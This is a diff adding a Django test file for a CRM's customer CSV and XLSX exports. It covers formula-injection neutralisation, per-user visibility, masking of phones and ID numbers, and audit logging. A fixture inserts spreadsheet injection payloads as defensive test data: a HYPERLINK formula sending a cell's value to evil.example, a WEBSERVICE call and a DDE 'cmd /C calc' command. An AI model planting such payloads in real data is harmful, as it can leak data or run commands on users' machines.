@@ -1,0 +1,330 @@
+"""Customer exports in both formats: what each user gets, how dangerous text is neutralised, and
+what the audit log keeps. Workbooks are read back with openpyxl, so the tests see the cell types
+a spreadsheet program would see."""
+
+import csv
+import datetime as dt
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from django.core.exceptions import PermissionDenied
+from django.utils import timezone
+
+from guanxi.audit.models import AuditEvent
+from guanxi.core.testing.factories import CustomerFactory
+from guanxi.core.testing.visibility_matrix import EXPECTED
+from guanxi.customers.exports import (
+    EXPORT_COLUMNS,
+    customers_export_csv,
+    customers_export_xlsx,
+    neutralise_formula,
+)
+from guanxi.customers.models import Customer, Email, Tag
+from guanxi.customers.services import customer_create
+
+pytestmark = pytest.mark.django_db
+
+FORMATS = ("csv", "xlsx")
+DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# The text columns a customer's own data can fill, each with the characters it is given below.
+PAYLOAD_COLUMNS = ("external_id", "name", "company", "industry", "region", "emails", "tags")
+
+
+def read_csv(content: bytes) -> list[dict[str, str]]:
+    assert content.startswith("\ufeff".encode()), "the byte order mark is missing"
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+
+
+def open_sheet(file):
+    """The only sheet of a workbook file, loaded fully so every cell has its stored type."""
+    data = file.read()
+    file.close()
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    assert len(workbook.worksheets) == 1
+    return workbook.worksheets[0], data
+
+
+def read_xlsx(file) -> list[dict[str, openpyxl.cell.Cell]]:
+    sheet, _data = open_sheet(file)
+    rows = list(sheet.iter_rows())
+    assert [c.value for c in rows[0]] == list(EXPORT_COLUMNS)
+    return [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]]
+
+
+def export_values(export_format: str, **kwargs) -> list[dict]:
+    """Each exported row as {column: value}, whichever the format."""
+    if export_format == "csv":
+        return read_csv(customers_export_csv(**kwargs))
+    return [
+        {k: c.value for k, c in row.items()} for row in read_xlsx(customers_export_xlsx(**kwargs))
+    ]
+
+
+def customer_with_text(start: str) -> Customer:
+    """A customer whose every free-text export column begins with ``start``, written straight
+    to the tables as an import or an old record could be (the services strip tabs and line
+    breaks, the export must not rely on that)."""
+    customer = CustomerFactory(
+        owner=None,
+        name=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")',
+        company=f"{start}cmd|' /C calc'!A0",
+        external_id=f"{start}1+1",
+        industry=f"{start}SUM(1,2)",
+        region=f"{start}2+3",
+    )
+    Email.objects.create(customer=customer, address=f"{start}x@example.com")
+    customer.tags.add(Tag.objects.create(name=f'{start}WEBSERVICE("http://evil.example")'))
+    return customer
+
+
+# ---------------------------------------------------------------------------------------------
+# The neutralisation rule
+
+
+@pytest.mark.parametrize("start", DANGEROUS_STARTS)
+def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(start):
+    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["  =1+1", " @SUM(A1)", "+86 139 **** 1111", "-5 km", "-", "--1", "-1e3", "-1.", "- 5"],
+)
+def test_leading_spaces_signs_and_things_that_only_look_numeric_are_quoted(value):
+    assert neutralise_formula(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["", "王芳", "Acme = Best", "a+b@example.com", "'=already quoted", "-5", "-12.50", "0", "#N/A"],
+)
+def test_harmless_text_and_bare_negative_numbers_are_left_alone(value):
+    assert neutralise_formula(value) == value
+
+
+# ---------------------------------------------------------------------------------------------
+# Formula injection, end to end
+
+
+@pytest.mark.parametrize("start", DANGEROUS_STARTS)
+def test_csv_cells_never_start_a_formula(company, start):
+    customer = customer_with_text(start)
+    [row] = [
+        r
+        for r in read_csv(customers_export_csv(actor=company.admin))
+        if r["id"] == str(customer.pk)
+    ]
+    for column in PAYLOAD_COLUMNS:
+        assert row[column].startswith("'" + start), (column, row[column])
+    assert row["name"] == "'" + customer.name
+    assert row["emails"] == f"'{start}x@example.com"
+
+
+@pytest.mark.parametrize("start", DANGEROUS_STARTS)
+def test_xlsx_cells_are_quoted_strings_never_formulas(company, start):
+    customer = customer_with_text(start)
+    sheet, data = open_sheet(customers_export_xlsx(actor=company.admin))
+    rows = [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+    [row] = [r for r in rows if r["id"].value == customer.pk]
+    # XML reads a bare carriage return back as a line feed; either way the quote comes first.
+    read_back = start.replace("\r", "\n")
+    for column in PAYLOAD_COLUMNS:
+        cell = row[column]
+        assert cell.data_type == "s", (column, cell.data_type)
+        assert cell.value.startswith("'" + read_back), (column, cell.value)
+    assert row["name"].value == "'" + customer.name.replace("\r", "\n")
+    assert row["company"].value == "'" + customer.company.replace("\r", "\n")
+    # No formula element anywhere in the workbook, whatever the reader makes of the cells.
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(
+            b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets
+        )
+
+
+def test_xlsx_text_that_openpyxl_would_misread_is_still_stored_as_text(company):
+    # '#N/A' would be written as an error value; it is someone's tag, so it must stay text.
+    customer = CustomerFactory(owner=None, name="#N/A", industry="#REF!")
+    [row] = [
+        r
+        for r in read_xlsx(customers_export_xlsx(actor=company.admin))
+        if r["id"].value == customer.pk
+    ]
+    assert (row["name"].value, row["name"].data_type) == ("#N/A", "s")
+    assert (row["industry"].value, row["industry"].data_type) == ("#REF!", "s")
+
+
+def test_xlsx_replaces_characters_a_workbook_cannot_hold(company):
+    customer = CustomerFactory(owner=None, name="Zhang\x01Wei\x1f", industry="a\tb\nc")
+    [row] = [
+        r
+        for r in read_xlsx(customers_export_xlsx(actor=company.admin))
+        if r["id"].value == customer.pk
+    ]
+    assert row["name"].value == "Zhang\ufffdWei\ufffd"
+    assert row["industry"].value == "a\tb\nc"  # tab and line break are allowed inside text
+    [csv_row] = [
+        r
+        for r in read_csv(customers_export_csv(actor=company.admin))
+        if r["id"] == str(customer.pk)
+    ]
+    assert csv_row["name"] == "Zhang\x01Wei\x1f"
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_masked_phones_are_quoted_and_negative_numbers_stay_numbers(company, export_format):
+    customer = customer_create(
+        actor=company.rep, data={"name": "Li Na", "phones": ["13900001111"], "region": "-5"}
+    )
+    [row] = [
+        r
+        for r in export_values(export_format, actor=company.rep)
+        if str(r["id"]) == str(customer.pk)
+    ]
+    assert row["phones"] == "'+86 139 **** 1111"
+    assert row["region"] == "-5"
+
+
+# ---------------------------------------------------------------------------------------------
+# Who gets what
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+@pytest.mark.parametrize("username", sorted(EXPECTED))
+def test_an_export_holds_exactly_the_customers_the_user_sees(company, username, export_format):
+    rows = export_values(export_format, actor=company.users[username])
+    ids = [int(r["id"]) for r in rows]
+    assert len(ids) == len(set(ids))
+    assert set(ids) == {company.customers[n].pk for n in EXPECTED[username][0]}
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_full_numbers_need_the_permission_and_a_refusal_leaves_no_trace(company, export_format):
+    customer_create(
+        actor=company.rep,
+        data={
+            "name": "Full",
+            "phones": ["13900001111"],
+            "id_number": "11010519491231002X",
+            "tags": ["full"],
+        },
+    )
+    export = customers_export_csv if export_format == "csv" else customers_export_xlsx
+    with pytest.raises(PermissionDenied):
+        export(actor=company.rep, reveal=True)
+    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()
+
+    [masked] = export_values(export_format, actor=company.manager, filters={"tag": "full"})
+    assert masked["phones"] == "'+86 139 **** 1111"
+    assert masked["id_number"] == "1101**********002X"
+    [full] = export_values(
+        export_format, actor=company.manager, filters={"tag": "full"}, reveal=True
+    )
+    assert full["phones"] == "'+86 139 0000 1111"
+    assert full["id_number"] == "11010519491231002X"
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_every_export_writes_one_audit_row_with_format_filters_and_count(company, export_format):
+    customer_create(actor=company.rep, data={"name": "Tagged", "tags": ["VIP"]})
+    customer_create(actor=company.rep, data={"name": "Also tagged", "tags": ["VIP"]})
+    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count()
+
+    export_values(
+        export_format, actor=company.manager, filters={"tag": "VIP", "q": ""}, reveal=True
+    )
+
+    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT)
+    assert events.count() == before + 1
+    event = events.latest("id")
+    assert event.actor == company.manager
+    assert event.object_type == "customer_list"
+    assert event.changes == {
+        "format": {"before": None, "after": export_format},
+        "filters": {"before": None, "after": {"tag": "VIP"}},
+        "rows": {"before": None, "after": 2},
+        "revealed": {"before": None, "after": True},
+    }
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_filters_narrow_the_export(company, export_format):
+    wanted = customer_create(
+        actor=company.rep, data={"name": "Wanted", "kind": "partner", "tags": ["展会2026"]}
+    )
+    customer_create(actor=company.rep, data={"name": "Other partner", "kind": "partner"})
+    customer_create(actor=company.rep, data={"name": "Other tagged", "tags": ["展会2026"]})
+    rows = export_values(
+        export_format, actor=company.rep, filters={"kind": "partner", "tag": "展会2026"}
+    )
+    assert [int(r["id"]) for r in rows] == [wanted.pk]
+    assert [
+        r["name"]
+        for r in export_values(
+            export_format, actor=company.rep, filters={"owner_id": company.teammate.pk}
+        )
+    ] == ["Teammate Customer"]
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_chinese_text_survives(company, export_format):
+    customer = customer_create(
+        actor=company.rep,
+        data={
+            "name": "王芳",
+            "company": "上海贸易有限公司",
+            "region": "上海",
+            "industry": "零售",
+            "tags": ["展会2026", "重要客户"],
+        },
+    )
+    [row] = export_values(export_format, actor=company.rep, filters={"tag": "重要客户"})
+    assert int(row["id"]) == customer.pk
+    assert (row["name"], row["company"], row["region"], row["industry"]) == (
+        "王芳",
+        "上海贸易有限公司",
+        "上海",
+        "零售",
+    )
+    assert sorted(row["tags"].split("; ")) == ["展会2026", "重要客户"]
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_an_empty_list_exports_the_header_only(company, export_format):
+    if export_format == "csv":
+        content = customers_export_csv(actor=company.rep, filters={"tag": "no-one-has-this"})
+        assert content.decode("utf-8-sig").splitlines() == [",".join(EXPORT_COLUMNS)]
+    else:
+        sheet, _data = open_sheet(
+            customers_export_xlsx(actor=company.rep, filters={"tag": "no-one-has-this"})
+        )
+        assert [[c.value for c in row] for row in sheet.iter_rows()] == [list(EXPORT_COLUMNS)]
+    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORT).changes["rows"]["after"] == 0
+
+
+def test_xlsx_keeps_numbers_and_dates_as_spreadsheet_types(company, settings):
+    settings.TIME_ZONE = "Asia/Shanghai"
+    customer = company.rep_customer
+    Customer.objects.filter(pk=customer.pk).update(
+        created_at=dt.datetime(2026, 1, 31, 17, 30, 15, 123456, tzinfo=dt.UTC)
+    )
+    customer.refresh_from_db()
+    [row] = [
+        r
+        for r in read_xlsx(customers_export_xlsx(actor=company.rep))
+        if r["id"].value == customer.pk
+    ]
+    assert row["id"].data_type == "n" and isinstance(row["id"].value, int)
+    # Shown in the site's time zone, as on the pages: 17:30 UTC is 01:30 next day in Shanghai.
+    assert row["created_at"].is_date
+    assert row["created_at"].value == dt.datetime(2026, 2, 1, 1, 30, 15)
+    assert row["created_at"].value == timezone.localtime(customer.created_at).replace(
+        tzinfo=None, microsecond=0
+    )
+    assert row["external_id"].value is None  # empty, not an empty string
+    [csv_row] = [
+        r for r in read_csv(customers_export_csv(actor=company.rep)) if r["id"] == str(customer.pk)
+    ]
+    assert csv_row["created_at"] == "2026-01-31T17:30:15.123456+00:00"
